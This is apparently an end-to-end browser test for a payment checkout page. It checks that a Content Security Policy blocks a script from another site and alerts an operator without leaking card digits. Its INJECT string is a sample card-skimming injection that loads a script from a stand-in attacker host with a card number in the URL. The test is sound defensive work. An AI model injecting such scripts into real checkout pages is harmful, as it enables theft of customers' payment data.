"""A script from elsewhere on the payment page: a real browser keeps it out, and says so."""

from __future__ import annotations

import asyncio

import pytest
from tests.e2e.running import OpenPage, Running
from tests.lengths import long

from paydesk.web.page_headers import REPORTS

pytestmark = pytest.mark.browser

INJECT = """
const script = document.createElement("script");
script.src = "https://evil.example/skim.js?card=4242424242424242";
document.body.append(script);
"""


@long
async def test_a_script_from_elsewhere_is_kept_out_and_an_operator_told(open_page: OpenPage, running: Running) -> None:
    page = await open_page(f"{running.address}/checkout/sample")
    async with page.expect_event("requestfinished", lambda request: request.url.endswith(REPORTS)):
        await page.evaluate(INJECT)
    [alarm] = await asyncio.to_thread(running.command, "alarm", "list", "--kind", "policy_violated")
    assert alarm["subject"] == "checkout: script-src-elem, other site"
    assert "evil.example" in alarm["reason"]
    assert "4242" not in alarm["subject"] + alarm["reason"]
